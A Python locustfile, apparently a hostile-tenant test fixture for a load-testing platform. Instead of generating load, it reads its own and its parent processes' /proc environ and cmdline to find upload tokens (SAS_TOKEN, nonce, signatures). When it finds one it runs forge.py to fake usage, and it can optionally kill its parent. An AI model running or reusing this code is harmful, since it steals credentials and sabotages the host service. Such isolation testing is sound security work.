"""A locustfile that loads nothing, looks for what its dyno uploads with, and would forge an hour with it."""

import os
import signal
import sys
from pathlib import Path

from locust import User, constant, task


def lineage() -> list[int]:
    pids = [os.getpid()]
    while pids[-1] > 1:
        try:
            stat = Path(f"/proc/{pids[-1]}/stat").read_text().rpartition(")")[2]
        except OSError:
            break
        pids.append(int(stat.split()[1]))
    return [pid for pid in pids if pid]


def shown() -> bytes:
    found = b"".join(f"{name}={value}\0".encode() for name, value in os.environ.items())
    for pid in lineage():
        for name in ("environ", "cmdline"):
            try:
                found += Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                pass
    return found


loot = [name for name in ("sig=", "LOADTEST_UPLOADS", "LOADTEST_NONCE", "SAS_TOKEN") if name.encode() in shown()]
print(f"greedy found {loot}", file=sys.stderr, flush=True)
if loot:
    exec(compile(Path("forge.py").read_text(), "forge.py", "exec"))
if os.environ.get("GREEDY") == "kill":
    os.kill(os.getppid(), signal.SIGKILL)


class Idle(User):
    wait_time = constant(1)

    @task
    def rest(self) -> None:
        pass
